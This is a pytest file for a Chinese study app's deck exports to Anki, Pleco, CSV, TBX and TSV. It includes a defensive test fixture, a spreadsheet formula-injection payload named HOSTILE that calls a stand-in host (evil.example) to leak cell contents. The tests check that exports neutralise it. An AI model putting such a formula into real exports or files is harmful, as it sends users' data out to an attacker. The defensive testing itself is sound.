"""The deck leaves the app in files other programs read: Anki's own library reads our package back."""

import csv
import io
import itertools
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
from lxml import etree

from studyapp import text
from studyapp.cli import main
from studyapp.document import open_in_library
from studyapp.library import Library
from studyapp.study import deck
from studyapp.study.deck_export import Card, cards, export_deck
from studyapp.translation.exchange import export_text, read_pairs
from studyapp.translation.segments import Segment, Status

from ...conftest import DEFAULT_TEXT


def anki_notes(package, collection_path):
    """Import ``package`` into the Anki collection at ``collection_path`` and return its notes by hanzi."""
    from anki.collection import Collection, ImportAnkiPackageRequest

    collection = Collection(str(collection_path))
    try:
        collection.import_anki_package(ImportAnkiPackageRequest(package_path=str(package)))
        notes = [collection.get_note(note_id) for note_id in collection.find_notes("")]
        return {note["Hanzi"]: dict(note.items()) for note in notes}
    finally:
        collection.close()


@pytest.fixture
def package_clock(monkeypatch):
    """Anki updates a note only when the package's copy is newer, to the second: each package is stamped two
    seconds after the one before (the package writer takes the stamp as an argument), so no test sleeps for it."""
    from studyapp.study import deck_export

    stamps = itertools.count(time.time(), 2.0)
    write = deck_export._package_bytes
    monkeypatch.setattr(deck_export, "_package_bytes",
                        lambda package, timestamp=None, **media: write(package, next(stamps), **media))


def test_an_anki_export_leaves_nothing_in_the_temp_folder(tmp_path, monkeypatch):
    """genanki's write_to_file left the deck's SQLite copy in the temp folder on every export; an export killed
    mid-way leaves its folder, which the next export removes."""
    import tempfile

    from studyapp.study.review import Kind

    temp = tmp_path / "temp"
    temp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(temp))
    killed = subprocess.Popen([sys.executable, "-c", "pass"])
    killed.wait()  # a process gone, as an export killed mid-way is
    left = temp / f"studyapp-apkg-{killed.pid}-x1y2"
    left.mkdir()
    (left / "collection.anki2").write_bytes(b"0" * 1000)
    made = [Card(word="中国", pinyin="zhōng guó", numbered="zhong1guo2", definition="China", hsk=1,
                 context="中国和俄罗斯。", context_html="<b>中国</b>和俄罗斯。", context_translation="", translation="")]
    package = export_deck(made, "apkg", title="t", kinds=(Kind.RECOGNITION,))
    assert package[:2] == b"PK" and list(temp.iterdir()) == []


def test_anki_reads_the_package_and_a_re_export_updates_the_edited_note(tmp_path, capsys, package_clock):
    first = tmp_path / "first.apkg"
    assert main(["deck", str(DEFAULT_TEXT), "--export", "apkg", "--out", str(first)]) == 0
    collection = tmp_path / "collection.anki2"
    notes = anki_notes(first, collection)
    assert len(notes) == 576
    note = notes["双方"]
    assert note["Pinyin"] == "shuāng fāng" and note["Definition"] == "bilateral / both sides / both parties involved"
    assert "<b>双方</b>" in note["Context"] and note["HSK"]
    with Library.open() as library:
        library.set_definition("双方", "both sides")
        opened = open_in_library(library, DEFAULT_TEXT)
        library.save_translation(opened.segments[0].id, "In the spirit of partnership,")
    second = tmp_path / "second.apkg"
    assert main(["deck", str(DEFAULT_TEXT), "--export", "apkg", "--out", str(second)]) == 0
    again = anki_notes(second, collection)
    assert len(again) == 576  # updated, not added
    assert again["双方"]["Definition"] == "both sides"
    assert again["双方"]["ContextTranslation"] == "In the spirit of partnership,"


def test_pleco_csv_and_tbx_exports(tmp_path, analyzer):
    with Library.open(tmp_path / "library.sqlite") as library:
        document = text.split("中国和俄罗斯是邻国。")
        identifier = library.add_document(document, "t", None)
        _gathered, found = deck.build(library, identifier, document, analyzer)
        library.set_translation("邻国", "neighbouring country")
        made = cards(document, library.segments(identifier), found, library.chosen_translations())
    pleco = export_deck(made, "pleco").decode("utf-8").splitlines()
    assert "中国\tzhong1guo2\tChina" in pleco
    rows = export_deck(made, "csv").decode("utf-8").splitlines()
    assert rows[0].startswith("word,pinyin,definition") and any(row.startswith("邻国,lín guó") for row in rows)
    tbx = etree.fromstring(export_deck(made, "tbx"))
    terms = [element.text for element in tbx.iter("term")]
    assert terms == ["邻国", "neighbouring country"]  # only words with a chosen translation


def test_an_unknown_status_for_export_gets_one_line(tmp_path, capsys):
    assert main(["deck", str(DEFAULT_TEXT), "--export", "csv", "--out", str(tmp_path / "x.csv"),
                 "--status", "fluent"]) == 2
    assert "Unknown status fluent" in capsys.readouterr().err


def test_the_package_carries_the_kinds_the_learner_reviews_and_a_re_export_adds_no_card(tmp_path, package_clock):
    from anki.collection import Collection, ImportAnkiPackageRequest

    from studyapp.study.review import Kind, ReviewSettings, save_settings

    with Library.open() as library:
        save_settings(library, ReviewSettings(kinds=(Kind.RECOGNITION, Kind.CLOZE)))
        opened = open_in_library(library, DEFAULT_TEXT)
    collection = Collection(str(tmp_path / "collection.anki2"))
    try:
        for translation in ("", "In the spirit of partnership,"):
            with Library.open() as library:
                library.save_translation(opened.segments[0].id, translation)
            package = tmp_path / f"export{len(translation)}.apkg"
            assert main(["deck", str(DEFAULT_TEXT), "--export", "apkg", "--out", str(package)]) == 0
            collection.import_anki_package(ImportAnkiPackageRequest(package_path=str(package)))
            assert len(collection.find_notes("")) == 576  # updated, not added
            assert len(collection.find_cards("")) == 2 * 576  # a recognition and a cloze card per word
        [card_id] = collection.find_cards("Hanzi:本着 card:Cloze")
        question = collection.get_card(card_id).question()
        assert "［＿＿］" in question and "本着" not in question
        assert "In the spirit of partnership," in question  # the clause's translation as it is now
        assert collection.find_cards("card:Recall") == []
    finally:
        collection.close()


HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _calc_cells(path, tmp_path, separator: int = 44) -> str:
    """The file as LibreOffice Calc opens it, saved as a flat ODF spreadsheet."""
    import shutil
    import subprocess

    soffice = shutil.which("soffice")
    if soffice is None or not any(Path(os.path.realpath(soffice)).parent.glob("libsclo.so*")):
        pytest.skip("LibreOffice Calc is not installed")
    outdir = tmp_path / "calc"
    subprocess.run([soffice, f"-env:UserInstallation=file://{tmp_path}/lo-profile", "--headless",
                    f"--infilter=Text - txt - csv (StarCalc):{separator},34,76", "--convert-to", "fods",
                    "--outdir", str(outdir), str(path)], capture_output=True, timeout=120, check=True)
    return (outdir / (path.stem + ".fods")).read_text(encoding="utf-8")


def _hostile_deck_csv(tmp_path, analyzer) -> Path:
    with Library.open(tmp_path / "library.sqlite") as library:
        document = text.split("中国和俄罗斯是邻国。")
        identifier = library.add_document(document, "t", None)
        library.save_translation(library.segments(identifier)[0].id, "+1 neighbours @home")
        library.set_definition("中国", HOSTILE)
        _gathered, found = deck.build(library, identifier, document, analyzer)
        library.set_translation("邻国", "-ism, a suffix")  # legitimate text that starts with "-"
        made = cards(document, library.segments(identifier), found, library.chosen_translations())
    out = tmp_path / "deck.csv"
    out.write_bytes(export_deck(made, "csv"))
    return out


def test_a_csv_export_guards_every_cell_that_could_start_a_formula(tmp_path, analyzer):
    out = _hostile_deck_csv(tmp_path, analyzer)
    rows = {row[0]: row for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8")))}
    assert rows["中国"][2] == "'" + HOSTILE and rows["中国"][5] == "'+1 neighbours @home"
    assert rows["邻国"][6] == "'-ism, a suffix" and rows["邻国"][1] == "lín guó"


def test_libreoffice_runs_no_formula_of_a_csv_export(tmp_path, analyzer):
    calc = _calc_cells(_hostile_deck_csv(tmp_path, analyzer), tmp_path)
    assert "table:formula" not in calc and "evil.example" in calc and "xlink:href" not in calc


def _hostile_pairs_tsv(tmp_path) -> tuple[Path, list[str]]:
    document = text.split("中国和俄罗斯是邻国。他们说：")
    segments = [Segment(i + 1, c.start, c.end, "", Status.UNTRANSLATED) for i, c in enumerate(document.clauses)]
    targets = [HOSTILE, "'-quoted already"]
    segments = [s._replace(target=t, status=Status.DRAFT) for s, t in zip(segments, targets, strict=True)]
    out = tmp_path / "pairs.tsv"
    out.write_bytes(export_text(document, segments, "tsv"))
    return out, targets


def test_a_tsv_export_guards_formulas_and_imports_back_exactly(tmp_path):
    out, targets = _hostile_pairs_tsv(tmp_path)
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8")), delimiter="\t"))
    assert [row[1] for row in rows[1:]] == ["'" + HOSTILE, "''-quoted already"]
    assert [target for _source, target in read_pairs(out)] == targets


def test_libreoffice_runs_no_formula_of_a_tsv_export(tmp_path):
    calc = _calc_cells(_hostile_pairs_tsv(tmp_path)[0], tmp_path, separator=9)
    assert "table:formula" not in calc and "evil.example" in calc


def test_a_pasted_definition_with_tabs_and_line_breaks_keeps_one_pleco_card_per_line(tmp_path, analyzer):
    with Library.open(tmp_path / "library.sqlite") as library:
        document = text.split("中国和俄罗斯是邻国。")
        identifier = library.add_document(document, "t", None)
        library.set_definition("邻国", "neighbouring country\tneighbour\r\n\r\nbordering state\n")  # as pasted
        _gathered, found = deck.build(library, identifier, document, analyzer)
        made = cards(document, library.segments(identifier), found)
    lines = export_deck(made, "pleco").decode("utf-8").splitlines()
    assert len(lines) == len(made) and all(line.count("\t") == 2 for line in lines)
    assert "邻国\tlin2guo2\tneighbouring country neighbour / bordering state" in lines


def test_a_definition_stored_with_line_breaks_is_escaped_in_the_pleco_file():
    """A library written before definitions were kept to one line may hold them: Pleco's own line break."""
    card = Card("邻国", "lín guó", "lin2guo2", "neighbouring country\r\nneighbour\tstate", 5, "", "", "", "")
    china = Card("中国", "zhōng guó", "zhong1guo2", "China", 1, "", "", "", "")
    lines = export_deck([card, china], "pleco").decode("utf-8").split("\n")
    assert lines == ["邻国\tlin2guo2\tneighbouring country\ueab1neighbour state", "中国\tzhong1guo2\tChina", ""]
